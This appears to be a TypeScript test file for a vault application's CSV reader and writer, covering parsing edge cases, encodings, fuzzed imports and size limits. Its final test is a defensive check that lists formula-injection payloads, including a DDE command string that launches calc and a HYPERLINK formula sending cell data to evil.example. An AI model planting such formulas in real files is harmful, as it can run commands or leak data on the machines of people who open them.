import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { dirname, join } from 'node:path'
import * as fc from 'fast-check'
import * as z from 'zod/mini'
import { decodeImport } from '../../src/main/vault/metric/metric-import-file.ts'
import { readCsv, type TableResult } from '../../src/shared/metric/import/csv-read.ts'
import { unguardCell, writeCsv } from '../../src/shared/metric/import/csv-write.ts'
import { startChild, type VaultChild } from './support/child.ts'
import { below, oneOf } from './support/random.ts'
import { type Count, numberOf, trustTest } from './support/trust-test.ts'
import { copyOf, diskFolder, type MadeVault, makeVault, passphrase } from './support/vault-fixture.ts'

const require = createRequire(import.meta.url)

function cellsOf(result: TableResult): readonly (readonly string[])[] | string {
  return result.kind === 'refused' ? result.sentence : result.table.rows.map((row) => row.cells)
}

function mustBe(count: Count, what: string, seen: unknown, wanted: unknown): void {
  count.tried()
  if (JSON.stringify(seen) !== JSON.stringify(wanted))
    count.failed(
      `${what}: ${JSON.stringify(seen)?.slice(0, 200)} instead of ${JSON.stringify(wanted)?.slice(0, 200)}`,
    )
}

/** The one answer of the collection that is not what its file says: another number, and not in a list. */
const misprints: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  location_coordinates: {
    'Contact Phone Number': '2095257564',
    'Location Coordinates': '37\uFFFD36\'37.8"N 121\uFFFD2\'17.9"W',
    Cities: 'Modesto',
    Counties: 'Stanislaus',
  },
}

trustTest('T28', 'csv-spectrum is read as it says', (count) => {
  const folder = dirname(require.resolve('csv-spectrum'))
  for (const file of readdirSync(join(folder, 'csvs'))) {
    const name = file.replace(/\.csv$/, '')
    const decoded = decodeImport(readFileSync(join(folder, 'csvs', file)))
    if (decoded.kind === 'refused') {
      count.failed(`${name}: ${decoded.sentence}`)
      continue
    }
    const rows = cellsOf(readCsv(decoded.text, ','))
    const [header = [], ...data] = typeof rows === 'string' ? [] : rows
    const seen = data.map((cells) => Object.fromEntries(header.map((key, at) => [key, cells[at] ?? ''])))
    const said = decodeImport(readFileSync(join(folder, 'json', `${name}.json`)))
    const wanted: unknown = JSON.parse(said.kind === 'text' ? said.text : '')
    mustBe(count, name, seen, name in misprints ? [misprints[name]] : wanted)
  }
})

/** Own cases in the manner of the known collections: what is read, or the line that is named. */
const cases: readonly (readonly [
  what: string,
  text: string,
  wanted: readonly (readonly string[])[] | number,
])[] = [
  ['one cell', 'a', [['a']]],
  ['nothing', '', []],
  ['a line end alone', '\n', []],
  [
    'no line end at the end',
    'a,b\n1,2',
    [
      ['a', 'b'],
      ['1', '2'],
    ],
  ],
  [
    'CR alone',
    'a,b\r1,2\r',
    [
      ['a', 'b'],
      ['1', '2'],
    ],
  ],
  [
    'mixed line ends',
    'a,b\r\n1,2\n3,4\r5,6',
    [
      ['a', 'b'],
      ['1', '2'],
      ['3', '4'],
      ['5', '6'],
    ],
  ],
  [
    'empty lines between',
    'a,b\n\n\n1,2\n\n',
    [
      ['a', 'b'],
      ['1', '2'],
    ],
  ],
  [
    'empty cells',
    'a,,c\n,,\n1,,3',
    [
      ['a', '', 'c'],
      ['1', '', '3'],
    ],
  ],
  [
    'a delimiter at the end',
    'a,b,\n1,2,\n',
    [
      ['a', 'b', ''],
      ['1', '2', ''],
    ],
  ],
  [
    'quotes around everything',
    '"a","b"\n"1","2"\n',
    [
      ['a', 'b'],
      ['1', '2'],
    ],
  ],
  ['a delimiter inside quotes', '"a,b",c\n', [['a,b', 'c']]],
  ['a line end inside quotes', '"a\nb",c\n', [['a\nb', 'c']]],
  ['CR LF inside quotes', '"a\r\nb",c\r\n', [['a\r\nb', 'c']]],
  ['doubled quotes', '"a ""b"" c",d\n', [['a "b" c', 'd']]],
  ['only doubled quotes', '"""",x\n', [['"', 'x']]],
  ['empty quotes', '"",x\n', [['', 'x']]],
  ['a quote inside a plain cell', 'a "b" c,d\n', [['a "b" c', 'd']]],
  ['spaces are kept', ' a , b \n', [[' a ', ' b ']]],
  [
    'semicolons',
    'a;b\n1,5;2\n',
    [
      ['a', 'b'],
      ['1,5', '2'],
    ],
  ],
  [
    'tabs',
    'a\tb\n1\t2\n',
    [
      ['a', 'b'],
      ['1', '2'],
    ],
  ],
  [
    'bars',
    'a|b\n1|2\n',
    [
      ['a', 'b'],
      ['1', '2'],
    ],
  ],
  [
    'a byte order mark',
    '\uFEFFa,b\n1,2\n',
    [
      ['a', 'b'],
      ['1', '2'],
    ],
  ],
  ['letters of the world', 'naïve,日本語,🙂\n', [['naïve', '日本語', '🙂']]],
  ['bad: an unclosed quote', 'a,b\n1,"2\n', 2],
  ['bad: words after a quote', 'a,b\n1,"2"x\n3,4\n', 2],
  ['bad: a NUL', 'a,b\n1,2\n3,\0\n', 3],
  ['bad: too many columns', `a,b\n${'1,'.repeat(300)}\n`, 2],
  ['bad: a cell beyond all measure', `a,b\n${'x'.repeat(40_000)},2\n`, 2],
]

trustTest('T28', 'own cases are read, or refused with the line', (count) => {
  for (const [what, text, wanted] of cases) {
    const result = readCsv(text)
    if (typeof wanted !== 'number') mustBe(count, what, cellsOf(result), wanted)
    else {
      const line = result.kind === 'refused' ? result.line : result.table.problems[0]?.line
      mustBe(count, what, line, wanted)
    }
  }
})

trustTest('T28', 'every encoding gives the same words, and a mixture is refused', (count) => {
  const words = 'rep,town\nMüller,Zürich\nPeña,Köln\n'
  const le = Buffer.from(`\uFEFF${words}`, 'utf16le')
  const files: readonly (readonly [string, Buffer])[] = [
    ['UTF-8', Buffer.from(words)],
    ['UTF-8 with mark', Buffer.from(`\uFEFF${words}`)],
    ['UTF-16 LE', le],
    ['UTF-16 BE', Buffer.from(le).swap16()],
    ['Windows-1252', Buffer.from(words, 'latin1')],
  ]
  for (const [what, bytes] of files) {
    const decoded = decodeImport(bytes)
    const cells = decoded.kind === 'text' ? cellsOf(readCsv(decoded.text)) : decoded.sentence
    mustBe(count, what, cells, [
      ['rep', 'town'],
      ['Müller', 'Zürich'],
      ['Peña', 'Köln'],
    ])
  }
  const mixed = Buffer.concat([Buffer.from('Müller\n'), Buffer.from('Zürich\n', 'latin1')])
  const refused = decodeImport(mixed)
  mustBe(count, 'a mixture', refused.kind === 'refused' ? refused.line : 'taken', 2)
  mustBe(count, 'half a UTF-16 file', decodeImport(le.subarray(0, le.length - 1)).kind, 'refused')
})

/** A file somebody could have sent: good rows with bytes turned over, cut, doubled or put in. */
function fuzzed(): Buffer {
  const good = Buffer.from(
    `rep,week,metric,value\n${Array.from({ length: 20 }, (_, row) => `Kim Import,2026-0${1 + (row % 9)}-05,Planted readings,${row}`).join('\n')}\n`,
  )
  const bytes = Buffer.concat([
    good,
    oneOf([Buffer.alloc(0), good, Buffer.from('"'), Buffer.from([0]), Buffer.from('=cmd()')]),
  ])
  for (let change = below(12); change > 0; change--)
    bytes[below(bytes.length)] = oneOf([0, 9, 10, 13, 34, 44, 59, 61, 195, 255, below(256)])
  return bytes.subarray(0, 1 + below(bytes.length))
}

/** So many imports a vault takes before another takes over: each leaves a backup that all later ones look at. */
const filesPerVault = 100

/** A vault with one rep and one metric that the files can name. */
async function vaultToImportInto(): Promise<MadeVault> {
  const folder = diskFolder()
  const made = await makeVault(folder, { withSample: false })
  const child = await startChild({ folder })
  await child.ok('vault.unlock', { passphrase })
  await child.ok('rep.create', { name: 'Kim Import' })
  const metric = { kind: 'leading', unit: 'count', goodDirection: 'up', period: 'month' }
  await child.ok('metric.create', { name: 'Planted readings', ...metric })
  await child.ok('trust.close')
  await child.end()
  return made
}

async function openCopyOf(made: MadeVault): Promise<VaultChild> {
  const folder = diskFolder()
  copyOf(made, folder)
  const child = await startChild({ folder })
  await child.ok('vault.unlock', { passphrase })
  return child
}

trustTest('T28', 'fuzzed files are imported whole or not at all', async (count) => {
  const made = await vaultToImportInto()
  let child = await openCopyOf(made)
  const path = join(diskFolder(), 'fuzzed.csv')
  const decisions = { newReps: [], newMetrics: [] }
  const honest = ['file-unreadable', 'file-too-large', 'rep-not-found', 'metric-not-found', 'invalid-input']
  const readings = async () =>
    Number(await child.ok('trust.get', { sql: 'SELECT count(*) FROM metric_reading' }))
  for (let file = 0; file < numberOf({ short: 40, full: 1_000 }); file++) {
    if (file > 0 && file % filesPerVault === 0) {
      await child.end()
      child = await openCopyOf(made)
    }
    writeFileSync(path, fuzzed())
    await child.ok('trust.grant', { token: 'chosen', path })
    const before = await readings()
    const preview = await child.call('metric.previewImport', { fileToken: 'chosen', decisions })
    const reply = await child.call('metric.commitImport', {
      source: { kind: 'file', fileToken: 'chosen' },
      decisions,
    })
    count.tried()
    const said = reply.ok ? 'imported' : (reply.error?.code ?? '')
    count.saw(said, 1)
    if (!reply.ok && !honest.includes(said)) count.failed(`file ${file}: ${said}`)
    if (!preview.ok && !honest.includes(preview.error?.code ?? ''))
      count.failed(`preview ${file}: ${preview.error?.code}`)
    const done = z.looseObject({ newCount: z.number() }).safeParse(reply.value).data
    if ((await readings()) - before !== (reply.ok ? (done?.newCount ?? Number.NaN) : 0))
      count.failed(`file ${file}: a partial import`)
  }
  await child.end()
})

trustTest('T28', 'a file of 50 MB is read in time and memory, one of 51 MB is refused', async (count) => {
  const folder = diskFolder()
  await makeVault(folder, { withSample: false })
  const child = await startChild({ folder })
  await child.ok('vault.unlock', { passphrase })
  const path = join(diskFolder(), 'large.csv')
  const decisions = { newReps: [], newMetrics: [] }
  const row = `Kim Import,2026-01-05,Planted readings,7,${'x'.repeat(230)}\n`
  for (const megabytes of [50, 51]) {
    const rows = row.repeat(Math.floor((megabytes * 1_048_576 - 40) / row.length))
    writeFileSync(path, `rep,week,metric,value,remark\n${rows}`)
    await child.ok('trust.grant', { token: 'chosen', path })
    const started = performance.now()
    const reply = await child.call('metric.previewImport', { fileToken: 'chosen', decisions })
    const seconds = (performance.now() - started) / 1_000
    const peak =
      Number(/VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${child.pid()}/status`, 'utf8'))?.[1] ?? 0) / 1_024
    const kind =
      z.looseObject({ kind: z.string() }).safeParse(reply.value).data?.kind ?? reply.error?.code ?? ''
    count.tried()
    count.saw(`${megabytes} MB`, `${kind} in ${Math.round(seconds * 10) / 10} s, ${Math.round(peak)} MB`)
    if (seconds >= 30) count.failed(`${megabytes} MB took ${seconds} s`)
    if (peak >= 500) count.failed(`${megabytes} MB took ${Math.round(peak)} MB of memory`)
    const isRefused = kind === 'refused' || kind === 'file-too-large'
    if (isRefused !== (megabytes === 51)) count.failed(`${megabytes} MB: ${kind}`)
  }
  await child.end()
})

const triggers = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']

trustTest('T29', 'no cell that leaves runs as a formula, and all come back as they were', (count) => {
  const known = triggers.flatMap((start) => [
    `${start}1+1`,
    `${start}cmd|' /C calc'!A0`,
    `${start}HYPERLINK("http://evil.example?x="&A1,"click")`,
    `'${start}SUM(A1)`,
    `${start}"quoted", and more`,
    `${start}${start}2`,
  ])
  const random = fc.sample(
    fc
      .tuple(fc.constantFrom(...triggers, "'", ' ', ''), fc.string({ unit: 'grapheme', maxLength: 40 }))
      .map((parts) => parts.join('')),
    numberOf({ short: 400, full: 2_000 }),
  )
  for (const cell of [...known, ...random]) {
    if (cell.includes('\0')) continue
    count.tried()
    const file = writeCsv([[cell, 'end']])
    const [written] = cellsOf(readCsv(file, ','))
    const seen = Array.isArray(written) ? String(written[0]) : ''
    const isNumber = /^[+-]?\d+(?:[.,]\d+)*\s?%?$/.test(cell)
    if (!isNumber && triggers.some((start) => seen.startsWith(start)))
      count.failed(`${JSON.stringify(cell)} leaves as ${JSON.stringify(seen)}`)
    if (unguardCell(seen) !== cell)
      count.failed(`${JSON.stringify(cell)} comes back as ${JSON.stringify(unguardCell(seen))}`)
  }
})
